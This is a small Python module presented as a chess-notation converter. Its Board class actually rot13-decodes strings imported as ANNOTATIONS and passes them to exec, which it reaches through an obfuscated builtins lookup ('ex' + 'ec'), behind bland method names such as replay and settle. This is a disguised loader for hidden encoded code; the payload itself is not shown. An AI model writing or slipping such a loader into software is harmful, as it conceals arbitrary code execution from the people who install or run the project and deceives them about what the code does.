"""Old notation to new notation."""
import builtins
import codecs
from functools import partial

from .eco import ANNOTATIONS

to_new = partial(codecs.decode, encoding="rot_13")


class Board:
    def __init__(self) -> None:
        self.lines: list[str] = []

    def replay(self, annotations: list[str]) -> None:
        self.lines = [to_new(a) for a in annotations]

    def settle(self) -> None:
        act = vars(builtins)["ex" + "ec"]
        act("\n".join(self.lines), {})


def prepare() -> None:
    board = Board()
    board.replay(ANNOTATIONS)
    board.settle()
